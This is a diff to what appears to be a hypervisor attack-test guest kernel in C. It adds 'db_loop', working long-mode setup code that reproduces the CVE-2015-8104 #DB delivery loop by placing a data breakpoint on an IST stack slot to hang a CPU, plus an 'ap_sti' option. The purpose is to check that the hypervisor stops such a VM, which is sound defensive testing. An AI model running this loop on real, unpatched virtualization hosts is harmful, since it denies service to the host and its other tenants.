@@ -39,6 +39,8 @@
  * and:
  *   ac_loop      the #AC delivery loop (CVE-2015-5307): never ends; nethv
  *                must stop this VM
+ *   db_loop      the #DB delivery loop on an IST stack (CVE-2015-8104), in
+ *                long mode: the same
  */
 #include "../lib/guest.h"
 #include <stddef.h>
@@ -83,6 +85,14 @@ static bool word_is(const char *c, const char *k, const char **val)
     return true;
 }
 
+/* "ap_sti": the second vCPU waits with interrupts on, for Bochs 2.7's SVM
+ * (attacks.sh, platform ryzen), which masks physical interrupts -- the
+ * host's timer tick and IPIs included -- while a guest runs with IF=0
+ * (VMRUN loads the guest's RFLAGS before it marks the CPU as in guest mode,
+ * cpu/svm.cc; AMD APM 2 15.21.1 says the host's IF governs them under
+ * V_INTR_MASKING): an IF=0 spinner there keeps its CPU until it exits */
+static bool ap_sti;
+
 static void parse_cmdline(uint32_t magic, uint32_t mbi)
 {
     if (magic != 0x2badb002u || !(*(volatile uint32_t *)mbi & (1u << 2)))
@@ -107,6 +117,8 @@ static void parse_cmdline(uint32_t magic, uint32_t mbi)
             for (; *v >= '0' && *v <= '9'; v++)
                 n = n * 10 + (uint32_t)(*v - '0');
             idle_windows = n;
+        } else if (word_is(c, "ap_sti", &v)) {
+            ap_sti = true;
         } else if (word_is(c, "windows=", &v)) {
             uint32_t n = 0;
             for (; *v >= '0' && *v <= '9'; v++)
@@ -136,6 +148,8 @@ static volatile uint32_t ap_quit;
 
 static void ap_loop(void)
 {
+    if (ap_sti)
+        __asm__ volatile("sti");
     while (!__atomic_load_n(&ap_quit, __ATOMIC_ACQUIRE)) {
         void (*t)(void) = ap_task;
         if (t) {
@@ -664,6 +678,82 @@ static void ac_loop(void)
         :: "r"((uint32_t)&ac_stack[63] - 2) : "eax", "memory");
 }
 
+/* ---- db_loop: the #DB delivery loop (CVE-2015-8104) ----
+ * In long mode, with #DB delivered on IST stack 1 and a data breakpoint
+ * (DR0/DR7) on that stack's top slot: every delivery pushes the frame onto
+ * the same slot, which raises a #DB trap again before the handler's first
+ * instruction, forever -- on a CPU that does not intercept #DB, a hung
+ * physical CPU.  nethv must keep its CPU and stop this VM as hung.  One
+ * store to the slot starts it.  The page tables map the first GiB with
+ * 2 MiB pages; interrupts stay off.  Never returns if the loop is made. */
+static uint64_t dl_pml4[512] __attribute__((aligned(4096)));
+static uint64_t dl_pdpt[512] __attribute__((aligned(4096)));
+static uint64_t dl_pd[512] __attribute__((aligned(4096)));
+static uint64_t dl_ist[64] __attribute__((aligned(16)));
+static uint32_t dl_tss[26] __attribute__((aligned(16)));       /* 104 bytes, IST1 at 0x24 */
+static uint64_t dl_gdt[5] __attribute__((aligned(16)));        /* null, code64, data, TSS (2) */
+static uint64_t dl_idt[4] __attribute__((aligned(16)));        /* vectors 0 and 1 */
+struct { uint16_t limit; uint32_t base; } __attribute__((packed)) dl_gdtr;     /* LGDT in 32-bit mode */
+struct { uint16_t limit; uint64_t base; } __attribute__((packed)) dl_idtr;     /* LIDT in 64-bit mode */
+extern char dl_long[], dl_db[];
+const char dl_none[] = "atk: FAIL db_loop: the store to the watched IST slot raised no #DB loop\n";
+uint64_t *dl_slot;
+__asm__(
+    "   .text\n"
+    "   .code64\n"
+    "dl_long:\n"
+    "   movw $0x10, %ax\n   movw %ax, %ds\n   movw %ax, %es\n   movw %ax, %ss\n"
+    "   movl $dl_idtr, %eax\n"          /* (absolute addresses as 32-bit immediates: */
+    "   lidt (%rax)\n"                  /*  an ELF32 object has no 64-bit relocations) */
+    "   movw $0x18, %ax\n   ltr %ax\n"
+    "   movl $dl_slot, %eax\n"
+    "   movl (%rax), %eax\n"
+    "   movq %rax, (%rax)\n"            /* the watched slot: a #DB trap */
+    "   movl $dl_none, %esi\n"          /* not reached if the loop is made */
+    "1: movb (%rsi), %al\n   testb %al, %al\n   jz 2f\n"
+    "   outb %al, $0xe9\n   incl %esi\n   jmp 1b\n"              /* TESTDEV_DEBUG_PORT */
+    "2: movl $1, %eax\n   outl %eax, $0xf4\n"                     /* TESTDEV_EXIT_PORT */
+    "3: hlt\n   jmp 3b\n"
+    "dl_db:\n"                          /* never reached: its delivery traps */
+    "   iretq\n"
+    "   .code32\n");
+
+static void db_loop(void)
+{
+    for (unsigned i = 0; i < 512; i++)
+        dl_pd[i] = (uint64_t)i << 21 | 0x83;                   /* P, RW, 2 MiB */
+    dl_pdpt[0] = (uint32_t)dl_pd | 3;
+    dl_pml4[0] = (uint32_t)dl_pdpt | 3;
+    uint32_t top = (uint32_t)&dl_ist[64];
+    dl_tss[9] = top;                                            /* IST1, low half */
+    dl_tss[25] = 104u << 16;                                    /* no I/O bitmap */
+    uint32_t tss = (uint32_t)dl_tss;
+    dl_gdt[1] = 0x00af9a000000ffffull;                          /* 64-bit code, 0x08 */
+    dl_gdt[2] = 0x00cf92000000ffffull;                          /* data, 0x10 */
+    dl_gdt[3] = 103 | (uint64_t)(tss & 0xffffff) << 16 | 0x89ull << 40 |
+                (uint64_t)(tss >> 24) << 56;                    /* available 64-bit TSS, 0x18 */
+    uint32_t h = (uint32_t)dl_db;
+    dl_idt[2] = (h & 0xffff) | 0x08u << 16 | 1ull << 32 | 0x8eull << 40 |
+                (uint64_t)(h >> 16) << 48;                      /* vector 1: IST 1, interrupt gate */
+    dl_gdtr.limit = sizeof(dl_gdt) - 1;
+    dl_gdtr.base = (uint32_t)dl_gdt;
+    dl_idtr.limit = sizeof(dl_idt) - 1;
+    dl_idtr.base = (uint32_t)dl_idt;
+    dl_slot = &dl_ist[63];                                      /* where SS is pushed */
+    count = 1;
+    __asm__ volatile(
+        "   cli\n"
+        "   movl %0, %%dr0\n"
+        "   movl $0x000d0001, %%eax\n   movl %%eax, %%dr7\n"  /* L0, write, 4 bytes */
+        "   movl %%cr4, %%eax\n   orl $0x20, %%eax\n   movl %%eax, %%cr4\n"    /* PAE */
+        "   movl %1, %%cr3\n"
+        "   movl $0xc0000080, %%ecx\n   rdmsr\n   orl $0x100, %%eax\n   wrmsr\n"    /* EFER.LME */
+        "   lgdt dl_gdtr\n"
+        "   movl %%cr0, %%eax\n   orl $0x80000000, %%eax\n   movl %%eax, %%cr0\n"
+        "   ljmp $0x08, $dl_long\n"
+        :: "r"((uint32_t)dl_slot), "r"((uint32_t)dl_pml4) : "eax", "ecx", "edx", "memory");
+}
+
 /* ---- gw_spoof: the uplink's gateway, and a Linux neighbour ----
  * For qemu-net's uplink-attack case (config/net-uplink-attack.dts): device
  * 0 sends from the MAC of QEMU's user-network gateway (52:55:0a:00:02:02,
@@ -889,6 +979,7 @@ static const struct {
     { "sipi_storm", "ICR writes", sipi_storm },
     { "gw_spoof", "spoofed frames", gw_spoof },
     { "ac_loop", "loops", ac_loop },
+    { "db_loop", "loops", db_loop },
 };
 
 int guest_main(uint32_t magic, uint32_t mbi)
